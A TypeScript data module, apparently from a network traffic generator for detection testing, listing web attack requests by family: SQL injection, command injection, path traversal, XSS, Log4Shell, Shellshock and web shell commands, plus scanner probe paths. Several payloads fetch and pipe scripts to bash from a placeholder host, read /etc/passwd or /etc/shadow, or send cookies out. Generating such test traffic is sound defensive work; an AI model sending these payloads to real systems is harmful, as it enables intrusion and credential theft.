// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are texts, not templates
import type { HttpRequest } from '../packet-builder/http.ts'

/** One family of attacks on web applications, as the requests that carry it. */
export interface WebAttack {
  readonly name: string
  readonly description: string
  readonly technique: string
  /** Requests without their Host header; the seed picks some and orders them. */
  readonly requests: readonly (Omit<HttpRequest, 'headers'> & {
    readonly headers?: Record<string, string>
  })[]
}

const formHeaders = { 'Content-Type': 'application/x-www-form-urlencoded' }
const get = (target: string) => ({ target })
const post = (target: string, body: string) => ({
  method: 'POST',
  target,
  body,
  headers: formHeaders,
})
const withHeader = (name: string, value: string) => ({ target: '/', headers: { [name]: value } })

/** Textbook examples (OWASP testing guide, sqlmap, CVE write-ups), all aimed at nothing. */
export const webAttackFamilies: readonly WebAttack[] = [
  {
    name: 'sql_injection',
    description: 'SQL injection against a shop: tautologies, UNION SELECT, time delays.',
    technique: 'T1190',
    requests: [
      get('/product.php?id=1%27%20OR%20%271%27%3D%271'),
      get(
        '/product.php?id=1%27%20AND%201%3D2%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-',
      ),
      get('/product.php?id=-1%20UNION%20ALL%20SELECT%20NULL%2Cversion()%2CNULL--'),
      get('/product.php?id=1%27%20AND%20SLEEP(5)--%20-'),
      get('/product.php?id=1%3B%20DROP%20TABLE%20orders--'),
      get('/search?q=%27%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--'),
      post('/login.php', 'username=admin%27--&password=x'),
      post('/login.php', "username=' or 1=1#&password=x"),
    ],
  },
  {
    name: 'command_injection',
    description: 'Shell commands in parameters of a web application.',
    technique: 'T1059.004',
    requests: [
      get('/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd'),
      get('/ping.php?host=127.0.0.1%7Cid'),
      get('/ping.php?host=%60wget%20http%3A//198.51.100.9/x.sh%20-O-%7Csh%60'),
      get('/cgi-bin/status?name=$(uname%20-a)'),
      post('/tools/dns', 'name=example.org%26%26cat+/etc/shadow'),
      post('/tools/dns', 'name=x;curl http://198.51.100.9/a|bash'),
    ],
  },
  {
    name: 'path_traversal',
    description: 'Requests that climb out of the web root for system files.',
    technique: 'T1083',
    requests: [
      get('/download?file=../../../../etc/passwd'),
      get('/download?file=..%2f..%2f..%2f..%2fetc%2fshadow'),
      get('/static/..%252f..%252f..%252fetc/passwd'),
      get('/images/../../../../../../windows/win.ini'),
      get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'),
      get('/view?page=php://filter/convert.base64-encode/resource=config.php'),
    ],
  },
  {
    name: 'cross_site_scripting',
    description: 'Scripts in parameters that a page might show to others.',
    technique: 'T1059.007',
    requests: [
      get('/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
      get('/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'),
      get('/profile?name=%3Csvg%20onload%3Dfetch(%27//198.51.100.9/%27%2Bdocument.cookie)%3E'),
      post('/comment', 'text=<script src=//198.51.100.9/x.js></script>'),
      get('/go?url=javascript%3Aalert(document.domain)'),
    ],
  },
  {
    name: 'log4shell',
    description: 'JNDI look-ups in headers and parameters (CVE-2021-44228).',
    technique: 'T1190',
    requests: [
      withHeader('User-Agent', '${jndi:ldap://198.51.100.9:1389/a}'),
      withHeader('X-Api-Version', '${jndi:rmi://198.51.100.9:1099/obj}'),
      withHeader('Referer', '${${lower:j}${lower:n}di:${lower:l}dap://198.51.100.9/x}'),
      get('/?q=$%7Bjndi%3Aldap%3A//198.51.100.9%3A1389/Basic/Command/Base64/aWQ=%7D'),
      withHeader('X-Forwarded-For', '${${::-j}${::-n}${::-d}${::-i}:dns://198.51.100.9/y}'),
    ],
  },
  {
    name: 'shellshock',
    description: 'Bash functions in headers of CGI requests (CVE-2014-6271).',
    technique: 'T1190',
    requests: ['/cgi-bin/status', '/cgi-bin/test.cgi', '/cgi-sys/defaultwebpage.cgi'].flatMap(
      (target) => [
        { target, headers: { 'User-Agent': '() { :;}; echo; /bin/bash -c "cat /etc/passwd"' } },
        {
          target,
          headers: { Referer: '() { :; }; /usr/bin/wget http://198.51.100.9/s -O /tmp/s' },
        },
      ],
    ),
  },
  {
    name: 'web_shell',
    description: 'Commands to an uploaded PHP shell.',
    technique: 'T1505.003',
    requests: [
      get('/uploads/shell.php?cmd=id'),
      get('/uploads/shell.php?cmd=uname%20-a'),
      get('/uploads/c99.php?act=ls&d=/var/www'),
      post('/uploads/b374k.php', 'cmd=cat+/etc/passwd'),
      post(
        '/uploads/x.php',
        'z0=@eval(base64_decode($_POST[z1]));&z1=ZWNobyBzaGVsbF9leGVjKCdpZCcpOw==',
      ),
      get('/uploads/shell.php?cmd=netstat%20-tlnp'),
    ],
  },
]

/** Paths that scanners for web weaknesses try; nearly none of them exists anywhere. */
export const scannerPaths: readonly string[] = [
  '/.git/config',
  '/.env',
  '/admin/',
  '/administrator/',
  '/backup.zip',
  '/cgi-bin/test-cgi',
  '/config.php.bak',
  '/phpmyadmin/',
  '/phpinfo.php',
  '/server-status',
  '/wp-login.php',
  '/wp-admin/',
  '/xmlrpc.php',
  '/robots.txt',
  '/crossdomain.xml',
  '/.svn/entries',
  '/.DS_Store',
  '/old/',
  '/test/',
  '/tmp/',
  '/console/',
  '/manager/html',
  '/solr/admin/',
  '/actuator/env',
  '/api/swagger.json',
  '/cgi-bin/printenv',
  '/cgi-bin/php',
  '/db.sql',
  '/dump.sql',
  '/install.php',
  '/setup.php',
  '/web.config',
  '/WEB-INF/web.xml',
  '/.htpasswd',
  '/.htaccess',
  '/id_rsa',
  '/sitemap.xml',
  '/owa/auth/logon.aspx',
  '/jmx-console/',
  '/invoker/JMXInvokerServlet',
  '/struts/webconsole.html',
  '/axis2/',
  '/_ignition/execute-solution',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
]
